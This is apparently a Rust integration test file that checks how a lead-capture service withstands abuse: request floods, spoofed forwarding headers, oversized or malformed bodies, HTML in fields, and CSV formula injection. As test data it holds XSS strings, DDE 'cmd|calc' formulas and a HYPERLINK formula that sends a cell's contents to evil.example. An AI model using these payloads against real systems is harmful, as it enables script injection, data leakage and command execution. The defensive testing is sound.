//! Hostile input against intake on the DynamoDB/SQS emulator: a flood from one address
//! among good leads, header tricks, per-form and per-address limits, a failing counter
//! store, oversized and deeply nested bodies, broken and foreign encodings, odd content
//! types; then formula injection in the CSV export and HTML in fields.
//!
//! Each test prints the counts BENCHMARKS.md §7 "Reliability" quotes (`--nocapture`).

use aws_sdk_dynamodb::config::interceptors::BeforeSerializationInterceptorContextRef;
use aws_sdk_dynamodb::config::{ConfigBag, Intercept};
use aws_sdk_dynamodb::operation::update_item::UpdateItemInput;
use base64::Engine;
use chrono::{DateTime, Utc};
use dedup_score::DedupScore;
use domain::capture::ratelimit::RateLimits;
use domain::capture::submission::SubmissionRules;
use domain::lead::ports::FixedClock;
use domain::lead::Stage;
use intake::http::AllowedOrigins;
use intake::Intake;
use leadflow_aws::{DynamoStore, SqsBus};
use leadflow_tests::{answer, http_event, request, Answer, Stack};
use serde_json::{json, Value};
use std::collections::BTreeMap;

type App = Intake<DynamoStore, SqsBus, FixedClock>;

/// Five seconds into a minute: a refused request waits out the other 55.
const NOW: &str = "2026-03-10T02:00:05Z";

fn t(s: &str) -> DateTime<Utc> {
    s.parse().unwrap()
}

fn app_with(store: DynamoStore, stack: &Stack, limits: RateLimits) -> App {
    Intake {
        store,
        bus: stack.full_bus(),
        clock: FixedClock(t(NOW)),
        rules: SubmissionRules::default(),
        origins: AllowedOrigins::default(),
        limits,
    }
}

fn app(stack: &Stack, limits: RateLimits) -> App {
    app_with(stack.store(), stack, limits)
}

/// An API Gateway event from `ip` with a raw (base64-carried, so any bytes) body.
fn event(path: &str, ip: &str, headers: &[(&str, &str)], body: &[u8]) -> Value {
    let mut event = http_event("POST", path, headers, "");
    event["body"] = json!(base64::engine::general_purpose::STANDARD.encode(body));
    event["isBase64Encoded"] = json!(true);
    event["requestContext"]["http"]["sourceIp"] = json!(ip);
    event
}

async fn send(app: &App, path: &str, ip: &str, headers: &[(&str, &str)], body: &[u8]) -> Answer {
    answer(app.handle(request(&event(path, ip, headers, body))).await)
}

async fn post_json(app: &App, ip: &str, body: &Value) -> Answer {
    send(
        app,
        "/v1/leads",
        ip,
        &[("content-type", "application/json")],
        body.to_string().as_bytes(),
    )
    .await
}

fn first_field(got: &Answer) -> &str {
    got.body["fields"][0]["field"].as_str().unwrap_or_default()
}

async fn lead_items(stack: &Stack) -> usize {
    stack.all_leads().await.len()
}

/// Runs dedup-score until the capture queue is empty (cleaning labels the junk).
async fn qualify_all(stack: &Stack) {
    let consumer = DedupScore {
        store: stack.store(),
        bus: stack.full_bus(),
    };
    loop {
        let (received, failed) = stack.deliver("CaptureQueue", |e| consumer.handle(e, t(NOW))).await;
        assert_eq!(failed, 0);
        if received == 0 {
            // And their funnel steps, which the reports read.
            stack.fold_rollups().await;
            return;
        }
    }
}

/// The junk a flood sends, in turn: a disposable mailbox, an impossible phone, spam
/// words, no contact at all (422), not JSON (400).
fn junk(i: usize) -> (&'static str, Vec<u8>) {
    let json = |v: Value| ("application/json", v.to_string().into_bytes());
    match i % 5 {
        0 => json(json!({"name": "test", "email": format!("junk{i}@mailinator.com")})),
        1 => json(json!({"name": "aaa", "phone": "13888888888", "submission_id": format!("flood-{i}")})),
        2 => json(json!({"email": format!("win{i}@example.net"), "message": "casino bonus, click now"})),
        3 => json(json!({"name": "no contact at all"})),
        _ => ("application/json", b"{\"email\": ".to_vec()),
    }
}

#[tokio::test]
async fn a_flood_from_one_address_is_cut_off_while_every_good_lead_lands() {
    let stack = Stack::start().await;
    let app = app(&stack, RateLimits::default());
    let limit = RateLimits::default().ip_leads as usize;
    let flooder = "203.0.113.66";
    const FLOOD: usize = 500;
    const GOOD_EVERY: usize = 10;

    // 500 junk posts from one address, each claiming another in every forwarding header,
    // with a good lead from a different visitor after every tenth; 25 requests in flight.
    let mut requests = Vec::new();
    for i in 0..FLOOD {
        requests.push((false, i));
        if i % GOOD_EVERY == GOOD_EVERY - 1 {
            requests.push((true, i / GOOD_EVERY));
        }
    }
    let mut flood: BTreeMap<u16, usize> = BTreeMap::new();
    let mut good_ids = Vec::new();
    let mut good_status: BTreeMap<u16, usize> = BTreeMap::new();
    for chunk in requests.chunks(25) {
        let answers = futures::future::join_all(chunk.iter().map(|&(good, i)| {
            let app = &app;
            async move {
                if good {
                    let body = json!({"name": format!("客户{i}"), "phone": format!("1390013{i:04}"),
                                      "company": format!("杭州好客户{i}科技有限公司"), "campaign_id": "spring",
                                      "submission_id": format!("good-{i}")});
                    let ip = format!("198.51.100.{}", i + 1);
                    (true, post_json(app, &ip, &body).await)
                } else {
                    let spoof = format!("198.51.100.{}", i % 250 + 1);
                    let (content_type, body) = junk(i);
                    let headers = [
                        ("content-type", content_type),
                        ("x-forwarded-for", spoof.as_str()),
                        ("x-real-ip", spoof.as_str()),
                        ("forwarded", "for=192.0.2.1"),
                        ("true-client-ip", spoof.as_str()),
                    ];
                    (false, send(app, "/v1/leads", flooder, &headers, &body).await)
                }
            }
        }))
        .await;
        for (good, got) in answers {
            if good {
                *good_status.entry(got.status).or_default() += 1;
                if got.status == 202 {
                    good_ids.push(got.body["lead_id"].as_str().unwrap().to_string());
                }
            } else {
                *flood.entry(got.status).or_default() += 1;
                if got.status == 429 {
                    assert_eq!(got.headers["retry-after"], "55", "seconds left in the window");
                    assert_eq!(first_field(&got), "source_ip");
                    assert_eq!(got.body["error"], "too many requests");
                }
            }
        }
    }
    let good_total = FLOOD / GOOD_EVERY;
    let refused = flood.get(&429).copied().unwrap_or_default();
    let admitted = FLOOD - refused;
    assert_eq!(
        good_status,
        BTreeMap::from([(202, good_total)]),
        "every good lead accepted"
    );
    assert_eq!(
        admitted, limit,
        "exactly the limit got through, even 25 at a time: {flood:?}"
    );
    assert_eq!(refused, FLOOD - limit);

    // What the flood got in is kept, and cleaning labels it junk with a reason.
    qualify_all(&stack).await;
    let leads = stack.all_leads().await;
    let good: Vec<_> = leads
        .iter()
        .filter(|l| good_ids.contains(&l.id.as_str().to_string()))
        .collect();
    assert_eq!(good.len(), good_total, "every good lead stored");
    assert!(
        good.iter()
            .all(|l| l.stage != Stage::Invalid && l.stage != Stage::Received),
        "good leads qualified, none taken for junk"
    );
    let junk_kept: Vec<_> = leads
        .iter()
        .filter(|l| !good_ids.contains(&l.id.as_str().to_string()))
        .collect();
    let stored_by_flood = flood.get(&202).copied().unwrap_or_default();
    assert_eq!(junk_kept.len(), stored_by_flood, "every accepted flood post is stored");
    assert!(stored_by_flood > 0);
    for lead in &junk_kept {
        assert_eq!(lead.stage, Stage::Invalid, "{:?}", lead.contact);
        assert!(lead.invalid_reason.as_ref().is_some_and(|r| !r.code.is_empty()));
    }
    let mut reasons: BTreeMap<String, usize> = BTreeMap::new();
    for lead in &junk_kept {
        *reasons.entry(lead.invalid_reason.clone().unwrap().code).or_default() += 1;
    }
    println!(
        "flood: {FLOOD} junk posts from one address -> {flood:?} (status: count); kept as invalid: {reasons:?}; \
         good leads from {good_total} other addresses: {good_status:?}, stored {}",
        good.len()
    );
}

#[tokio::test]
async fn forwarding_headers_name_no_one() {
    let stack = Stack::start().await;
    let app = app(
        &stack,
        RateLimits {
            ip_leads: 2,
            ..RateLimits::default()
        },
    );
    let victim = "198.51.100.7";
    // An attacker names the victim in X-Forwarded-For to get the victim locked out…
    for i in 0..3 {
        let body = json!({"email": format!("a{i}@example.com")}).to_string();
        let headers = [
            ("content-type", "application/json"),
            ("x-forwarded-for", victim),
            ("x-real-ip", victim),
            ("forwarded", "for=198.51.100.7"),
        ];
        let got = send(&app, "/v1/leads", "203.0.113.9", &headers, body.as_bytes()).await;
        assert_eq!(got.status, if i < 2 { 202 } else { 429 }, "counted by its own address");
    }
    // …and the victim is untouched.
    let got = post_json(&app, victim, &json!({"email": "victim@example.com"})).await;
    assert_eq!(got.status, 202);
    assert_eq!(lead_items(&stack).await, 3);
}

#[tokio::test]
async fn a_form_and_the_events_have_their_own_limits() {
    let stack = Stack::start().await;
    let app = app(
        &stack,
        RateLimits {
            window_secs: 60,
            ip_leads: 0,
            ip_events: 3,
            form: 5,
        },
    );
    // Seven visitors on one campaign: the form's cap lets five in.
    let mut statuses = Vec::new();
    for i in 0..7 {
        let body = json!({"email": format!("v{i}@example.com"), "campaign_id": "spring"});
        let got = post_json(&app, &format!("198.51.100.{}", i + 1), &body).await;
        if got.status == 429 {
            assert_eq!(first_field(&got), "form");
            assert!(got.body["fields"][0]["reason"]
                .as_str()
                .unwrap()
                .contains("at most 5 lead submissions to one form per 60 s"));
        }
        statuses.push(got.status);
    }
    assert_eq!(statuses, [202, 202, 202, 202, 202, 429, 429]);
    // Another form is unaffected; so is the same landing page under another query string.
    let other = json!({"email": "o@example.com", "landing_page": "https://www.example.com/demo?utm_source=a"});
    assert_eq!(post_json(&app, "198.51.100.1", &other).await.status, 202);

    // Events: three per address, then 429; lead posts from that address are a separate count.
    let mut statuses = Vec::new();
    for i in 0..4 {
        let body = json!({"event": "page_view", "anonymous_id": "visitor-1", "event_id": format!("ev-{i}")});
        let got = send(
            &app,
            "/v1/events",
            "198.51.100.50",
            &[("content-type", "text/plain")],
            body.to_string().as_bytes(),
        )
        .await;
        statuses.push(got.status);
        if got.status == 429 {
            assert_eq!(first_field(&got), "source_ip");
            assert!(got.headers.contains_key("retry-after"));
        }
    }
    assert_eq!(statuses, [202, 202, 202, 429]);
    let lead = json!({"email": "e@example.com", "campaign_id": "autumn"});
    assert_eq!(post_json(&app, "198.51.100.50", &lead).await.status, 202);
}

/// Fails every `UpdateItem` on a rate counter, as a throttled or unreachable table would.
#[derive(Debug)]
struct CountersDown;

impl Intercept for CountersDown {
    fn name(&self) -> &'static str {
        "CountersDown"
    }

    fn read_before_execution(
        &self,
        context: &BeforeSerializationInterceptorContextRef<'_>,
        _cfg: &mut ConfigBag,
    ) -> Result<(), aws_smithy_runtime_api::box_error::BoxError> {
        let counter = context
            .input()
            .downcast_ref::<UpdateItemInput>()
            .and_then(|input| input.key())
            .and_then(|key| key.get("pk"))
            .and_then(|pk| pk.as_s().ok())
            .is_some_and(|pk| pk.starts_with("RATE#"));
        if counter {
            return Err("injected: rate counter unavailable".into());
        }
        Ok(())
    }
}

#[tokio::test]
async fn when_the_counters_fail_leads_are_still_taken() {
    let stack = Stack::start().await;
    let client =
        aws_sdk_dynamodb::Client::from_conf(stack.dynamo.config().to_builder().interceptor(CountersDown).build());
    let store = DynamoStore::new(client, stack.table());
    let down = app_with(
        store,
        &stack,
        RateLimits {
            ip_leads: 1,
            ..RateLimits::default()
        },
    );
    for i in 0..3 {
        let got = post_json(&down, "203.0.113.5", &json!({"email": format!("kept{i}@example.com")})).await;
        assert_eq!(got.status, 202, "fail open: {}", got.body);
    }
    assert_eq!(lead_items(&stack).await, 3, "no lead lost to the limiter");
    assert!(stack.items_with_pk_prefix("RATE#").await.is_empty(), "nothing counted");
    // The same limits with a working store do refuse the second post.
    let working = app(
        &stack,
        RateLimits {
            ip_leads: 1,
            ..RateLimits::default()
        },
    );
    assert_eq!(
        post_json(&working, "203.0.113.6", &json!({"email": "x@example.com"}))
            .await
            .status,
        202
    );
    assert_eq!(
        post_json(&working, "203.0.113.6", &json!({"email": "y@example.com"}))
            .await
            .status,
        429
    );
    let counters = stack.items_with_pk_prefix("RATE#").await;
    assert!(
        counters.iter().all(|c| c.contains_key("expires_at")),
        "every counter expires"
    );
}

#[tokio::test]
async fn hostile_bodies_get_a_clear_error_and_store_nothing() {
    let stack = Stack::start().await;
    let app = app(&stack, RateLimits::off());
    // 10,000 nested arrays are 20,000 bytes: refused by size before any parsing. Just
    // under the size limit, 8,000 levels reach the parser, which stops at depth 128.
    let nested = |depth: usize| format!("{}{}", "[".repeat(depth), "]".repeat(depth));
    let deep_objects = format!("{}1{}", "{\"a\":".repeat(2_500), "}".repeat(2_500));
    let deep_inside = format!("{{\"email\":\"a@b.com\",\"x\":{}}}", nested(8_000));
    let big_json = json!({"email": "a@b.com", "message": "x".repeat(17 * 1024)}).to_string();
    let big_form = format!("email=a%40b.com&message={}", "x".repeat(1024 * 1024));
    let (gbk_json, _, _) = encoding_rs::GBK.encode("{\"name\": \"张三\", \"email\": \"a@b.com\"}");
    let (utf16, _, _) = encoding_rs::UTF_16LE.encode("{\"email\": \"a@b.com\"}");
    let mut utf16_bom = vec![0xFF, 0xFE];
    utf16_bom.extend(utf16.iter());
    // GBK bytes for 张三, raw (not percent-encoded) in a form body.
    let raw_gbk_form = [b"email=a%40b.com&name=".as_slice(), &[0xD5, 0xC5, 0xC8, 0xFD]].concat();

    type Case<'a> = (&'a str, &'a str, Vec<u8>, u16, &'a str, &'a str);
    let cases: Vec<Case> = vec![
        // path, content type, body, status, field, words in the reason
        (
            "/v1/leads",
            "application/json",
            big_json.into_bytes(),
            413,
            "body",
            "at most 16384 bytes",
        ),
        (
            "/v1/leads",
            "application/x-www-form-urlencoded",
            big_form.clone().into_bytes(),
            413,
            "body",
            "at most",
        ),
        (
            "/v1/events",
            "text/plain",
            big_form.clone().into_bytes(),
            413,
            "body",
            "at most",
        ),
        (
            "/v1/hooks/partner",
            "application/json",
            big_form.into_bytes(),
            413,
            "body",
            "at most",
        ),
        (
            "/v1/leads",
            "application/json",
            nested(10_000).into_bytes(),
            413,
            "body",
            "at most 16384 bytes",
        ),
        (
            "/v1/leads",
            "application/json",
            nested(8_000).into_bytes(),
            400,
            "body",
            "recursion limit",
        ),
        (
            "/v1/leads",
            "application/json",
            deep_objects.into_bytes(),
            400,
            "body",
            "recursion limit",
        ),
        (
            "/v1/leads",
            "application/json",
            deep_inside.into_bytes(),
            400,
            "body",
            "recursion limit",
        ),
        (
            "/v1/events",
            "text/plain",
            nested(8_000).into_bytes(),
            400,
            "body",
            "recursion limit",
        ),
        (
            "/v1/leads",
            "application/json",
            b"{\"email\": \"a@b.com\", \"name\": \"\xff\xfe\"}".to_vec(),
            400,
            "body",
            "UTF-8",
        ),
        (
            "/v1/leads",
            "application/json; charset=utf-8",
            gbk_json.to_vec(),
            400,
            "body",
            "UTF-8",
        ),
        ("/v1/leads", "application/json", utf16_bom, 400, "body", "UTF-8"),
        (
            "/v1/leads",
            "application/x-www-form-urlencoded",
            raw_gbk_form.clone(),
            400,
            "body",
            "UTF-8",
        ),
        (
            "/v1/leads",
            "application/x-www-form-urlencoded; charset=UTF-8",
            b"email=a%40b.com&name=%D5%C5%C8%FD".to_vec(),
            400,
            "body",
            "UTF-8",
        ),
        (
            "/v1/leads",
            "application/x-www-form-urlencoded; charset=gbk",
            b"email=a%40b.com&name=%D5".to_vec(),
            400,
            "body",
            "not valid GBK",
        ),
        (
            "/v1/leads",
            "application/x-www-form-urlencoded; charset=x-klingon",
            b"email=a%40b.com".to_vec(),
            415,
            "content-type",
            "charset x-klingon",
        ),
        (
            "/v1/leads",
            "application/json; charset=ütf-8",
            b"{\"email\":\"a@b.com\"}".to_vec(),
            415,
            "content-type",
            "must be",
        ),
        (
            "/v1/leads",
            "application/json,text/xml",
            b"{\"email\":\"a@b.com\"}".to_vec(),
            415,
            "content-type",
            "must be",
        ),
        (
            "/v1/leads",
            "application/jsonp",
            b"{\"email\":\"a@b.com\"}".to_vec(),
            415,
            "content-type",
            "must be",
        ),
        (
            "/v1/leads",
            "",
            b"{\"email\":\"a@b.com\"}".to_vec(),
            415,
            "content-type",
            "must be",
        ),
        (
            "/v1/leads",
            "application/json",
            b"\xEF\xBB\xBF".to_vec(),
            400,
            "body",
            "empty",
        ),
        (
            "/v1/leads",
            "application/json",
            b"\x00\x00\x00\x00".to_vec(),
            400,
            "body",
            "JSON",
        ),
    ];
    let total = cases.len();
    for (path, content_type, body, status, field, reason) in cases {
        let headers: Vec<(&str, &str)> = if content_type.is_empty() {
            vec![]
        } else {
            vec![("content-type", content_type)]
        };
        let got = send(&app, path, "203.0.113.1", &headers, &body).await;
        let what = format!("{path} {content_type:?} {} bytes", body.len());
        assert_eq!(got.status, status, "{what}: {}", got.body);
        assert_eq!(first_field(&got), field, "{what}: {}", got.body);
        let said = got.body["fields"][0]["reason"].as_str().unwrap_or_default();
        assert!(said.contains(reason), "{what}: {said:?} should say {reason:?}");
        assert!(got.body["error"].is_string());
    }
    assert!(stack.items().await.is_empty(), "nothing stored for hostile input");
    assert!(stack.drain("CaptureQueue").await.is_empty());
    println!("hostile bodies: {total} kinds, each a clear 4xx naming the field; 0 items stored");
}

#[tokio::test]
async fn foreign_encodings_and_odd_but_valid_requests_are_decoded_not_lost() {
    let stack = Stack::start().await;
    let app = app(&stack, RateLimits::off());
    let (gbk_json, _, _) = encoding_rs::GBK.encode("{\"name\": \"李四\", \"phone\": \"13800138002\"}");
    let long_cookie = format!("session={}", "c".repeat(8 * 1024));
    type Case<'a> = (&'a str, Vec<u8>, &'a str, Vec<(&'a str, &'a str)>);
    let cases: Vec<Case> = vec![
        // content type, body, the name stored, extra headers
        (
            "application/x-www-form-urlencoded; charset=gbk",
            b"name=%D5%C5%C8%FD&phone=13800138000".to_vec(),
            "张三",
            vec![],
        ),
        (
            "application/x-www-form-urlencoded",
            b"_charset_=GB18030&name=%CD%F5%CE%E5&phone=13800138001".to_vec(),
            "王五",
            vec![],
        ),
        ("application/json; charset=GBK", gbk_json.to_vec(), "李四", vec![]),
        (
            "application/json",
            "\u{feff}{\"name\": \"赵六\", \"phone\": \"13800138003\"}"
                .as_bytes()
                .to_vec(),
            "赵六",
            vec![],
        ),
        (
            "application/x-www-form-urlencoded",
            "\u{feff}name=%E5%AD%99%E4%B8%83&phone=13800138004".as_bytes().to_vec(),
            "孙七",
            vec![],
        ),
        (
            "APPLICATION/JSON; Charset=\"UTF-8\"",
            json!({"name": "周八", "phone": "13800138005"}).to_string().into_bytes(),
            "周八",
            vec![],
        ),
        (
            "text/plain;charset=UTF-8",
            json!({"name": "吴九", "phone": "13800138006"}).to_string().into_bytes(),
            "吴九",
            vec![("cookie", long_cookie.as_str()), ("user-agent", long_cookie.as_str())],
        ),
    ];
    let total = cases.len();
    for (content_type, body, name, extra) in cases {
        let mut headers = vec![("content-type", content_type)];
        headers.extend(extra);
        let got = send(&app, "/v1/leads", "198.51.100.1", &headers, &body).await;
        assert_eq!(got.status, 202, "{content_type}: {}", got.body);
        let lead = stack.lead(got.body["lead_id"].as_str().unwrap()).await;
        assert_eq!(lead.contact.name.as_deref(), Some(name), "{content_type}");
        assert!(
            lead.extra.is_empty(),
            "no `_charset_` or BOM-named field kept: {:?}",
            lead.extra
        );
    }
    assert_eq!(lead_items(&stack).await, total);
    println!("foreign encodings and odd headers: {total} valid posts, {total} stored with the right text");
}

#[tokio::test]
async fn html_in_fields_is_stored_and_returned_verbatim() {
    use api::auth::{mint_hs256, Verifier};
    use api::Api;
    let stack = Stack::start().await;
    let app = app(&stack, RateLimits::off());
    let name = "<script>alert(1)</script>";
    let message = "<img src=x onerror=\"alert('x')\"> & </textarea><svg/onload=alert(2)>";
    let company = "\"><iframe src=javascript:alert(3)>";
    let got = post_json(
        &app,
        "198.51.100.1",
        &json!({"name": name, "message": message, "company": company, "phone": "13800138000"}),
    )
    .await;
    assert_eq!(got.status, 202);
    let id = got.body["lead_id"].as_str().unwrap().to_string();
    let lead = stack.lead(&id).await;
    assert_eq!(lead.contact.name.as_deref(), Some(name), "stored verbatim");
    assert_eq!(lead.profile.message.as_deref(), Some(message));
    assert_eq!(lead.company.as_ref().map(|c| c.raw.as_str()), Some(company));

    let api = Api {
        store: stack.store(),
        bus: stack.api_bus(),
        clock: FixedClock(t(NOW)),
        verifier: Verifier::hs256("abuse-secret", "leadflow-test"),
    };
    let token = mint_hs256(
        "abuse-secret",
        "leadflow-test",
        "admin-1",
        &[domain::assign::actions::Role::Admin],
        600,
    );
    let auth = format!("Bearer {token}");
    let response = api
        .handle(request(&http_event(
            "GET",
            &format!("/v1/leads/{id}"),
            &[("authorization", auth.as_str())],
            "",
        )))
        .await;
    assert_eq!(response.status(), 200);
    assert!(
        response.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("application/json"),
        "JSON, never HTML a browser would render"
    );
    assert_eq!(
        response.headers()["x-content-type-options"],
        "nosniff",
        "and never sniffed into HTML"
    );
    let body: Value = serde_json::from_slice(response.body().as_ref()).unwrap();
    let lead = if body["lead"].is_object() { &body["lead"] } else { &body };
    assert_eq!(lead["contact"]["name"], name, "returned verbatim: {body}");
    assert_eq!(lead["profile"]["message"], message);
    assert_eq!(lead["company"]["raw"], company);
}

#[test]
fn the_demo_pages_never_write_data_as_html() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../infra/local/demo");
    let mut pages = 0;
    for entry in std::fs::read_dir(&dir).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|e| e == "html") {
            let text = std::fs::read_to_string(&path).unwrap();
            for sink in [
                "innerHTML",
                "outerHTML",
                "insertAdjacentHTML",
                "document.write",
                "srcdoc",
                "eval(",
                "new Function",
            ] {
                assert!(
                    !text.contains(sink),
                    "{} uses {sink}: write data with textContent or .value",
                    path.display()
                );
            }
            pages += 1;
        }
    }
    assert!(pages >= 2, "the demo pages were found in {}", dir.display());
}

#[tokio::test]
async fn every_csv_export_neutralises_formulas() {
    use api::auth::{mint_hs256, Verifier};
    use api::Api;
    use domain::assign::actions::Role;
    let stack = Stack::start().await;
    let api = Api {
        store: stack.store(),
        bus: stack.api_bus(),
        clock: FixedClock(t("2026-03-20T00:00:00Z")),
        verifier: Verifier::hs256("abuse-secret", "leadflow-test"),
    };
    let call = |method: &'static str, path: String, role: Role, body: Value| {
        let api = &api;
        async move {
            let token = mint_hs256("abuse-secret", "leadflow-test", "u-1", &[role], 600);
            let auth = format!("Bearer {token}");
            let headers = [("content-type", "application/json"), ("authorization", auth.as_str())];
            let body = if body.is_null() {
                String::new()
            } else {
                body.to_string()
            };
            api.handle(request(&http_event(method, &path, &headers, &body))).await
        }
    };
    let hyperlink = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"查看详情\")";
    let got = call(
        "PUT",
        "/v1/campaigns/spring".into(),
        Role::Manager,
        json!({"channel": "baidu_sem", "name": hyperlink}),
    )
    .await;
    assert_eq!(got.status(), 200);
    let got = call(
        "PUT",
        "/v1/campaigns/spring/costs/2026-03-01".into(),
        Role::Finance,
        json!({"lines": [{"keyword": "-2+3+cmd|' /C calc'!A0", "ad_spend": 1000}]}),
    )
    .await;
    assert_eq!(got.status(), 200);
    // A lead from a form that names its own campaign and keyword.
    let app = Intake {
        clock: FixedClock(t("2026-03-10T02:00:00Z")),
        ..app(&stack, RateLimits::off())
    };
    let lead = json!({"phone": "13800138000", "channel": "baidu_sem", "campaign_id": "@SUM(1+1)*cmd",
                      "utm_term": "+1+cmd|' /C calc'!A0"});
    assert_eq!(post_json(&app, "198.51.100.1", &lead).await.status, 202);
    qualify_all(&stack).await;

    let mut cells = 0;
    for group_by in ["campaign", "keyword", "channel"] {
        let response = call(
            "GET",
            format!("/v1/exports/roi?from=2026-03-01&to=2026-03-31&model=u_shaped&group_by={group_by}&format=csv"),
            Role::Finance,
            Value::Null,
        )
        .await;
        assert_eq!(response.status(), 200);
        assert!(response.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv"));
        let text = String::from_utf8(response.body().as_ref().to_vec()).unwrap();
        let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert!(!rows.is_empty(), "{group_by}: {text}");
        for row in &rows {
            for cell in row {
                cells += 1;
                let number = cell.parse::<f64>().is_ok() && !cell.contains(char::is_alphabetic);
                assert!(
                    number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{group_by}: {cell:?} would run as a formula"
                );
            }
        }
        let all: Vec<&str> = rows.iter().flat_map(|r| r.iter()).collect();
        match group_by {
            "campaign" => {
                assert!(all.contains(&format!("'{hyperlink}").as_str()), "{all:?}");
                assert!(all.contains(&"'@SUM(1+1)*cmd"), "{all:?}");
            }
            "keyword" => {
                assert!(all.contains(&"'-2+3+cmd|' /C calc'!A0"), "{all:?}");
                assert!(all.contains(&"'+1+cmd|' /C calc'!A0"), "{all:?}");
            }
            _ => {}
        }
        // A negative ROI (cost, no revenue) stays a number a spreadsheet can sum.
        let column = |name: &str| {
            domain::attribution::reports::ROI_CSV_HEADER
                .iter()
                .position(|h| *h == name)
                .unwrap()
        };
        let roi = rows.iter().map(|r| &r[column("roi")]).find(|c| !c.is_empty());
        assert_eq!(roi, Some("-1.0000"), "{group_by}: {text}");
    }
    println!("CSV exports: 3 groupings of the ROI export, {cells} cells, none a formula");
}

#[tokio::test]
async fn the_local_gateway_reports_the_connection_address_and_the_spike_spreads_its_visitors() {
    use leadflow_tests::FakeFunctions;
    use local_stack::gateway::Gateway;
    use local_stack::invoke::Invoker;
    use local_stack::template::Template;
    let functions = FakeFunctions::start(|_, event| {
        (
            200,
            json!({"statusCode": 200, "body": event.to_string(), "isBase64Encoded": false}),
        )
    })
    .await;
    let template = Template::load(&Template::path()).unwrap();
    let gateway = Gateway::new(&template, Invoker::new(&functions.url));
    let port = local_stack::moto::free_port();
    tokio::spawn(gateway.serve(([127, 0, 0, 1], port).into()));
    leadflow_tests::wait_until_listening(port).await;

    let mut seen = std::collections::BTreeSet::new();
    for i in [0, 1, 249, 250] {
        let client = reqwest::Client::builder()
            .local_address(local_stack::spike::visitor_address(i))
            .build()
            .unwrap();
        let event: Value = client
            .post(format!("http://127.0.0.1:{port}/v1/leads"))
            .header("content-type", "application/json")
            .header("x-forwarded-for", "192.0.2.99")
            .body("{}")
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        let ip = event["requestContext"]["http"]["sourceIp"]
            .as_str()
            .unwrap()
            .to_string();
        assert_ne!(ip, "192.0.2.99", "the header is not the address");
        if let Some(address) = local_stack::spike::visitor_address(i) {
            assert_eq!(ip, address.to_string());
        }
        seen.insert(ip);
    }
    if cfg!(target_os = "linux") {
        assert_eq!(seen.len(), 3, "250 addresses, then round again: {seen:?}");
    }
}

#[tokio::test]
async fn what_the_limits_cost_per_request() {
    use leadflow_tests::meter::Meter;
    let stack = Stack::start().await;
    let meter = Meter::default();
    let (store, bus) = stack.metered(&meter);
    let mut limited = app_with(store.clone(), &stack, RateLimits::default());
    limited.bus = bus.clone();
    let mut unlimited = app_with(store, &stack, RateLimits::off());
    unlimited.bus = bus;
    let lead = |i: u32| json!({"email": format!("cost{i}@example.com"), "campaign_id": "spring"});
    let event = json!({"event": "page_view", "anonymous_id": "v-1"}).to_string();

    let measure = async |app: &App, i: u32| {
        meter.take(&[]);
        assert_eq!(post_json(app, "198.51.100.1", &lead(i)).await.status, 202);
        let post = meter.take(&stack.items().await);
        let got = send(
            app,
            "/v1/events",
            "198.51.100.1",
            &[("content-type", "application/json")],
            event.as_bytes(),
        )
        .await;
        assert_eq!(got.status, 202);
        let ev = meter.take(&stack.items().await);
        (post, ev)
    };
    let (post_off, event_off) = measure(&unlimited, 1).await;
    let (post_on, event_on) = measure(&limited, 2).await;
    let updates = |t: &leadflow_tests::meter::Tally| t.calls.get("dynamodb:UpdateItem").copied().unwrap_or(0);
    assert_eq!(
        updates(&post_on) - updates(&post_off),
        2,
        "one counter for the address, one for the form"
    );
    assert_eq!(
        updates(&event_on) - updates(&event_off),
        1,
        "one counter for the address"
    );
    assert_eq!(post_on.dynamodb_requests() - post_off.dynamodb_requests(), 2);
    println!(
        "limits cost: a lead post {} -> {} DynamoDB requests, {:.1} -> {:.1} WRU; an event {} -> {} requests, {:.1} -> {:.1} WRU",
        post_off.dynamodb_requests(),
        post_on.dynamodb_requests(),
        post_off.write_units,
        post_on.write_units,
        event_off.dynamodb_requests(),
        event_on.dynamodb_requests(),
        event_off.write_units,
        event_on.write_units,
    );
}
